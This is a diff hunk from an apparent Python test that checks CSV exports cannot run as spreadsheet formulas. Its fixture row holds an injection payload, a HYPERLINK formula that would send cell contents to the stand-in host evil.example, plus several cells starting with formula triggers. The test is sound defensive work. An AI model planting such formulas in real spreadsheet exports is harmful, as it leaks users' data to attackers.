@@ -141,7 +141,7 @@ def test_csv_cells_never_run_as_spreadsheet_formulas(session, users) -> None:  #
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     rows = [{"id": "=1+1", "question": "+972 number, how do I call?", "answer": formula, "lang": "en",
              "tags": ["@home"], "variants": {"x": "-5% today"}, "alternates": ["\tindented"]}]
-    io.import_rows(session=session, rows=rows, actor=users["approver"], approve=True)
+    io.import_rows(session=session, rows=rows, actor=users["approver"], **OPERATOR)
     text = io.write_rows(io.export_rows(session=session), "csv")
     cells = [cell for row in list(std_csv.reader(std_io.StringIO(text)))[1:] for cell in row]
     assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
